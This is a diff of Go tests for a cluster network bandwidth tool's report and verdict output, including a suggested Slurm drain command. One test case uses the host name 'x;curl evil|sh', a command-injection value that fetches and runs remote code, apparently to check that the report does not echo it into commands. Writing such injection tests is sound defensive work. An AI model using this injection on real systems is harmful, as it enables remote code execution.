@@ -92,7 +92,7 @@ func TestReport(t *testing.T) {
 	for format, wants := range map[string][]string{
 		"table": {
 			"FAIL: 1 slow host, 1 not connected host, 1 slow link. 16 of 16 hosts", "Tested 240 of 240 ordered pairs", "a host that is 5.0% slower", "host7 -> host9",
-			"--exclude=host3,host5", "To drain (not run):  scontrol update nodename=host3,host5 state=drain reason=\"gobw fabric 2023-11-14\"", "between leaves",
+			"--exclude=host3,host5", "between leaves",
 		},
 		"html":        {"<svg", "host7 -&gt; host9: 50", "host15"},
 		"junit":       {"host7 -&gt; host9: the link is good", "host3: the host is good"},
@@ -101,6 +101,9 @@ func TestReport(t *testing.T) {
 		"markdown":    {"### FAIL", "host7 -"},
 	} {
 		out, code := ran(t, show.NewCommand, path, "--format", format)
+		if command := "\n  scontrol update nodename=host3,host5 state=drain reason=\"gobw fabric 2023-11-14\"\n"; format == "table" && !strings.Contains(out, command) {
+			t.Errorf("no line that is %q, to paste, in\n%s", command, out)
+		}
 		for _, want := range wants {
 			if !strings.Contains(strings.Join(strings.Fields(out), " "), strings.Join(strings.Fields(want), " ")) {
 				t.Errorf("%s, exit status %d: %q is missing in\n%.6000s", format, code, want, out)
@@ -146,11 +149,12 @@ func TestVerdict(t *testing.T) {
 		"cannot tell": {func(m *matrix.Matrix) {
 			good(m)
 			m.Findings = []matrix.Finding{{Subject: matrix.Link, To: 1, Verdict: stats.Unknown(stats.Unclear, "", "")}}
-		}, nil, "UNDECIDED: 1 undecided link.", ""},
+		}, nil, ": 1 unclear link.", ""},
 		"missed":           {good, []report.Check{missed, missed}, "FAIL: 2 missed expectations. 2 of 2 hosts", "exclude"},
 		"stopped":          {func(m *matrix.Matrix) { good(m); m.Planned = 9 }, nil, "after 1 of 9 rounds", ""},
-		"no power":         {func(m *matrix.Matrix) { good(m); m.Judged.HostPower = 0 }, nil, "UNDECIDED: too noisy (1.0% from one measurement to the next). 2 of 2 hosts", ""},
-		"nothing measured": {func(m *matrix.Matrix) { good(m); m.Cells = matrix.Cells{} }, nil, "UNDECIDED: nothing was measured.", ""},
+		"no power":         {func(m *matrix.Matrix) { good(m); m.Judged.HostPower = 0 }, nil, ": too noisy (1.0% from one measurement to the next). 2 of 2 hosts", "undecided"},
+		"what would help":  {func(m *matrix.Matrix) { good(m); m.Judged.HostPower, m.Judged.Settle = 0, "a quiet night" }, nil, "What to do next run: try a quiet night", "--time"},
+		"nothing measured": {func(m *matrix.Matrix) { good(m); m.Cells = matrix.Cells{} }, nil, ": nothing was measured.", ""},
 		"a rank too many":  {func(m *matrix.Matrix) { m.Findings, m.Hosts[2].Name = nil, "node1" }, nil, "1 absent host", "exclude"},
 		"did not begin":    {func(m *matrix.Matrix) { m.Rounds, m.Cells = nil, matrix.Cells{} }, nil, "No round was run", "exclude"},
 		"a command":        {func(m *matrix.Matrix) { m.Hosts[2].Name = "x;curl evil|sh" }, nil, "--exclude=node2 To drain", "=x;"},
